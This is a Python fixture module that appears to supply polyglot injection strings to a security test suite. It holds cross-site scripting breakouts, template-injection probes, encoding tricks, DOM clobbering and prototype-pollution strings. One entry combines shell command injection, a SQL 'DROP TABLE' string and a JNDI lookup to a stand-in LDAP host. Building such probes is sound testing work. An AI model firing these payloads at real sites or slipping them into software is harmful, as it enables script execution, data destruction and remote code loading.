r"""One value for many places at once."""

from __future__ import annotations

from support.tricks.payloads import Rows

__all__ = ["POLYGLOTS"]

POLYGLOTS: Rows = (
    ("polyglot-ends", "'\"></title></style></textarea></noscript></script><img src=x onerror=window.canary=1>"),
    ("polyglot-ends-comment", "--></title></style></textarea></script><svg onload=window.canary=1>"),
    ("polyglot-ends-section", "]]>--></xmp></iframe></noembed><svg onload=window.canary=1>"),
    ("polyglot-quotes", "'\"`;window.canary=1;//`\"'"),
    ("polyglot-quotes-calls", "`});'});\"});window.canary=1;//"),
    ("polyglot-quotes-lines", "'\n\"\n`\n;window.canary=1//"),
    ("polyglot-minus", "'-(window.canary=1)-'\"-(window.canary=1)-\"`-(window.canary=1)-`"),
    ("polyglot-comment", "*/window.canary=1;/*-->window.canary=1//<!--"),
    ("polyglot-url", "javascript:/*'/*\"/*`/*--></script><svg/onload='/**/window.canary=1//'>"),
    ("polyglot-url-handler", "javascript:\"/*'/*`/*' onfocus=window.canary=1 autofocus tabindex=0 //"),
    ("polyglot-attribute", 'x\' onfocus=\'window.canary=1\' autofocus " onfocus="window.canary=1" tabindex=0 x="'),
    (
        "polyglot-attribute-all",
        "\"'` autofocus tabindex=0 onfocus=window.canary=1 x=>\"'`><svg onload=window.canary=1>",
    ),
    ("polyglot-template", "{{7*7}}${7*7}<%=7*7%>#{7*7}[[7*7]]{%if 1%}x{%endif%}@(7*7)*{7*7}"),
    ("polyglot-template-error", "${{<%[%'\"}}%\\."),
    (
        "polyglot-template-code",
        "{{[].at.constructor('window.canary=1')()}}${window.canary=1}[[[].at.constructor('window.canary=1')()]]",
    ),
    ("polyglot-template-markup", "{{'}}</script><img src=x onerror=window.canary=1>"),
    ("polyglot-entities", "&lt;\\x3c\\u003c%3c+ADw-&#60<img src=x onerror=window.canary=1>"),
    ("polyglot-entities-quotes", '&quot;\\x22\\u0022%22+ACI-&#34"});window.canary=1//'),
    (
        "polyglot-markdown",
        "[x](javascript:window.canary=1)`<img src=x onerror=window.canary=1>`\n\n<svg onload=window.canary=1>",
    ),
    ("polyglot-charsets", '\u00bf\\"});window.canary=1//\u00a5"});window.canary=1//+ACIAfQApADs-'),
    ("polyglot-forms", "\uff02\uff07\uff1c\uff1e\uff3c\uff40\uff5b\uff5b7*7\uff5d\uff5d\uff05\uff5b"),
    ("polyglot-lines", "\n\r\u2028\u2029window.canary=1//\n--> x"),
    ("polyglot-servers", "'\"`;id|id&id$(id)`id`\n'; DROP TABLE customers;--\n=1+1\n${jndi:ldap://example.com/x}"),
    ("polyglot-foreign", "<svg><style></p><math><mi><title><!--</style></title>--><img src=x onerror=window.canary=1>"),
    ("polyglot-clobber", "\"id=nostojs name=nostojs '><a id=nostojs name=nostojs href=javascript:window.canary=1>"),
    ("polyglot-proto", '","__proto__":{"canary":1},"constructor":{"prototype":{"canary":1}},"x":"'),
    ("polyglot-style", "*/}</style><style>*{display:block!important}/*';@import'https://example.com/x.css"),
    ("polyglot-signs", "<>\"'&\\`={}%/;:()[]$#*!-+~_^|?@,."),
    ("polyglot-signs-turned", ".,@?|^_~+-!*#$][)(:;/%}{=`\\&'\"><"),
    ("polyglot-signs-twice", "<<>>\"\"''&&\\\\``==%%//"),
)
